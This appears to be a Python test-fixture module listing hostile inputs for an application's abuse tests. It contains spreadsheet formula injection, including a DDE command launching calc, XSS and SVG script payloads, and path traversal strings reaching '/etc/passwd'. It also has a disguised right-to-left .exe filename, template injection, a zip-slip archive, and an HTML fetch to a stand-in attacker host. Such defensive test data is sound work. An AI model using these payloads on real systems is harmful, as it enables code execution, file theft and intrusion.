"""What somebody types who hopes that nobody looks (abuse test 28 of the security specification).

Formulas, scripts, paths, reversed text, two template languages, and files that do something when opened.

Next: demo/rows.py
"""

import io
import zipfile

HOSTILE_TEXTS = (
    '=cmd|" /C calc"!A0',
    "+1+1",
    "@SUM(A1:A9)",
    "<script>alert(document.domain)</script><svg onload=alert(1)>",
    "../../etc/passwd",
    "invoice\u202efdp.exe",
    '#set page(width: 1pt) #eval("1+1") #read("/etc/passwd") @label $x$',
    "{{ 7 * 7 }} {% for x in y %}{% raw %}",
    'first line\nsecond, "quoted"\r\n;third\ttab',
    "back\\slash and 'quotes' and \x1b[31mred\u2028end",
)

# Paths in a row are not to be believed: each of these leads out of the file store.
BEYOND_THE_ROOT = ("../platform.db", "/etc/hostname", "images/../../platform.db")


def _nested_zip() -> bytes:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr(zipfile.ZipInfo("../outside.txt"), "out")
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("inner.zip"), inner.getvalue())
    return outer.getvalue()


HOSTILE_FILES: tuple[tuple[str, bytes], ...] = (
    ("drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("page.html", b"<script>fetch('https://attacker.example')</script>"),
    ("../../outside.png", b"named as if it lay elsewhere"),
    ("CON", b"a device on some systems"),
    ("invoice\u202egnp.exe", b"MZ reversed name"),
    ("=1+1.csv", b"=1+1\n"),
    ("archive.zip", _nested_zip()),
)
